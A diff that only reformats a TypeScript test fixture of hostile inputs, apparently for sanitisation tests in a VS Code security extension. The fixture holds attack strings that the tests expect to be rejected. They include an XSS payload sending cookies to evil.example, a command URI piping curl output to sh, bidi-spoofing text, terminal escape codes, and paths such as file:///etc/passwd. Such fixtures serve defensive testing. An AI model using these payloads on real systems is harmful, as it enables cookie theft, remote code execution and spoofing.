@@ -19,7 +19,8 @@ export const HOSTILE_CASES: readonly HostileCase[] = [
     name: 'bidi-controls',
     issueType: 'SQL_Injection\u2066admin\u2069',
     summary: 'Safe: input is validated \u202E// ;)"lla" ,sresu(eteled\u202C and \u2067isolated\u2069 text',
-    description: 'Reviewed by security.\u202E\u2066 }; if (isAdmin) { \u2069\u2066// \u2069\n\nThe value never reaches the query.\u202A\u202B\u202C\u202D',
+    description:
+      'Reviewed by security.\u202E\u2066 }; if (isAdmin) { \u2069\u2066// \u2069\n\nThe value never reaches the query.\u202A\u202B\u202C\u202D',
   },
   {
     name: 'line-terminators',
@@ -58,24 +59,29 @@ export const HOSTILE_CASES: readonly HostileCase[] = [
     name: 'markdown-links',
     issueType: 'SSRF',
     summary: '[Click to apply the fix](https://evil.example/steal?k=1) ![tracker](https://evil.example/p.png) **bold** `code`',
-    description: '# Heading\n\n[link](https://evil.example/phish "title") and <https://evil.example/auto>\n\n| table | row |\n|---|---|\n| a | b |',
+    description:
+      '# Heading\n\n[link](https://evil.example/phish "title") and <https://evil.example/auto>\n\n| table | row |\n|---|---|\n| a | b |',
   },
   {
     name: 'command-uri',
     issueType: 'Command_Injection',
-    summary: '[Run fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%7Csh%5Cn%22%7D)',
-    description: 'See [settings](command:workbench.action.openSettings?%22http.proxy%22) and [this](command:_workbench.downloadResource).\n\nvscode://ms-vscode.remote/open?x=1',
+    summary:
+      '[Run fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%7Csh%5Cn%22%7D)',
+    description:
+      'See [settings](command:workbench.action.openSettings?%22http.proxy%22) and [this](command:_workbench.downloadResource).\n\nvscode://ms-vscode.remote/open?x=1',
   },
   {
     name: 'html-markup',
     issueType: '<img src=x onerror=alert(1)>',
     summary: '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(document.domain)</script>',
-    description: '<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">click</a> &lt;escaped&gt; &amp;',
+    description:
+      '<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">click</a> &lt;escaped&gt; &amp;',
   },
   {
     name: 'terminal-escapes',
     issueType: 'Insecure_Cookie\u001b[31m',
-    summary: 'Clears your screen \u001b[2J\u001b[H and links \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007 bell\u0007 nul\u0000 del\u007f',
+    summary:
+      'Clears your screen \u001b[2J\u001b[H and links \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007 bell\u0007 nul\u0000 del\u007f',
     description: '\u001b[1mbold\u001b[0m\n\n\u001b]0;window title\u0007\n\nC1 control \u009b31m',
   },
   {
@@ -129,7 +135,11 @@ export const HOSTILE_LOCATIONS: readonly HostileLocation[] = [
   { name: 'file-url', expect: 'reject', sink: { path: 'file:///etc/passwd' } },
   { name: 'https-url', expect: 'reject', sink: { path: 'https://evil.example/x' } },
   { name: 'vscode-uri', expect: 'reject', sink: { path: 'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Fr.git' } },
-  { name: 'command-uri', expect: 'reject', sink: { path: 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D' } },
+  {
+    name: 'command-uri',
+    expect: 'reject',
+    sink: { path: 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D' },
+  },
   { name: 'nul-byte', expect: 'reject', sink: { path: 'app/db.py\u0000.png' } },
   { name: 'control-characters', expect: 'reject', sink: { path: 'app/\u001b[31mdb.py\nwhoami' } },
   { name: 'bidi-override', expect: 'reject', sink: { path: 'web/\u202Est.ipa' } },
